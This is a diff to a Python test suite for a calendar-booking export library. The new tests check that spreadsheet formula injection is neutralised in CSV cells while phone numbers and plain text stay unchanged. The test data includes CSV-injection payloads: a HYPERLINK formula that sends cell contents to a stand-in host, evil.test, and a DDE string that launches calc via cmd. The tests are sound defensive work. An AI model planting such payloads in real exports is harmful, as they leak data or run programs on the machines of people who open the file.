@@ -14,7 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from msgspec import Raw
 
-from calcom_async import models
+from calcom_async import InvalidRequestError, models
 from calcom_async.export.rows import BOOKING_COLUMNS, cells, columns_of, harmless
 from calcom_async.export.sinks import open_sink
 from calcom_async.models.bookings import Booking
@@ -96,7 +96,11 @@ def test_gaps_and_news_keep_the_columns(changes: dict[str, Any]) -> None:
     assert found["uid"] == "abc"
 
 
-@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"]
+BLANKS = [" =", "\t=", "\r\n=", "\xa0@", "\u3000\uff1d", "\ufeff=", "\u200b\u202e-", "\x00+", "\ufeff" * 99 + "="]
+
+
+@pytest.mark.parametrize("first", [*SIGNS, *BLANKS])
 def test_formulas_are_neutralised(first: str) -> None:
     """What a spreadsheet would run gets an apostrophe, in each column whose text others write."""
     evil = f'{first}HYPERLINK("https://evil.test?"&A1)'
@@ -115,12 +119,64 @@ def test_formulas_are_neutralised(first: str) -> None:
     assert all(found[name] == "'" + evil for name in columns)
 
 
-@given(st.text())
-def test_harmless_changes_nothing_else(text: str) -> None:
-    """Any text comes back whole, with at most one apostrophe before it, and never begins like a formula."""
+PHONES = [
+    "+39 06 1234567", "+1 (555) 010-9999", "+44.20.7946.0958", "+4930/123456", "+1-555-010-9999 ext. 12",
+    "+1 555 010 9999 x4", "\uff0b39 02 1234567", " +39061234567", "-5", "-1,5", "- 3.2", "-",
+]  # fmt: skip
+WORDS = ["a=b", "mail@x.test", "1+1", "(=1)", "\tTab", "\nLine", " x", "\ufeff", "", "'=1", "#REF", "|cmd", "\u2212x"]
+
+
+@pytest.mark.parametrize("text", [*PHONES, *WORDS])
+def test_what_is_not_run_is_not_altered(text: str) -> None:
+    """Phone numbers, numbers and texts that begin no formula stay as they are."""
+    assert harmless(text) == text
+    assert row(location=text)["location"] == text
+
+
+@pytest.mark.parametrize("text", ["+1+A1", "-2+3+cmd|' /C calc'!A0", "+SUM(1)", "-x", "+39 call me", "+" + "1" * 99])
+def test_a_formula_behind_a_sign_is_no_phone_number(text: str) -> None:
+    """Whatever names a cell, a function or a program is neutralised, and so is a long row of digits."""
+    assert harmless(text) == "'" + text
+
+
+@given(st.text(st.sampled_from("=+-@\uff1d\ufeff \t\x001A(x#.")))
+def test_a_text_stays_whole_and_begins_no_formula(text: str) -> None:
+    """Any text has at most one apostrophe before it; without one it is no formula, or has digits and marks alone."""
     safe = harmless(text)
     assert safe in {text, "'" + text}
-    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    shown = safe.lstrip(" \t\x00\ufeff")
+    assert not shown.startswith(("=", "@", "\uff1d"))
+    if shown.startswith(("+", "-")):
+        assert not set("=@A(x") & set(shown) - set("x(")
+
+
+@pytest.mark.parametrize("options", [{"escape": False}, {"bom": True}, {"escape": False, "bom": True}], ids=str)
+def test_csv_without_escapes_or_with_a_byte_order_mark(options: dict[str, bool], tmp_path: Path) -> None:
+    """Both are choices of the caller, and are kept when the file is brought up to date."""
+    for title in ("=1", "=2"):
+        with open_sink(tmp_path / "a.csv", **options) as sink:
+            sink.begin()
+            sink.write([Raw(msgspec.json.encode(WIRE | {"title": title, "uid": title}))])
+            sink.finish(upsert=True)
+    data = (tmp_path / "a.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfid," if options.get("bom") else b"id,")
+    assert data.count(b"\xef\xbb\xbf") == options.get("bom", False)
+    escape = "" if options.get("escape") is False else "'"
+    assert [line.split(",")[3] for line in data.decode().splitlines()[1:]] == [f"{escape}=1", f"{escape}=2"]
+
+
+@pytest.mark.parametrize("name", ["a.jsonl", "a.parquet"])
+@pytest.mark.parametrize("options", [{"escape": False}, {"bom": True}], ids=str)
+def test_options_of_csv_are_for_csv(name: str, options: dict[str, bool], tmp_path: Path) -> None:
+    """Other formats have no cells to escape and no byte order mark."""
+    with pytest.raises(InvalidRequestError, match="only CSV"):
+        open_sink(tmp_path / name, **options)
+
+
+def test_a_time_that_utc_cannot_express_is_written_as_it_is() -> None:
+    """A time at the edge of the calendar costs neither its row nor the export."""
+    assert row(end="0001-01-01T00:00:00+14:00")["end"] == "0001-01-01T00:00:00.000+14:00"
+    assert row(end="9999-12-31T23:59:59-14:00")["end"] == "9999-12-31T23:59:59.000-14:00"
 
 
 @given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
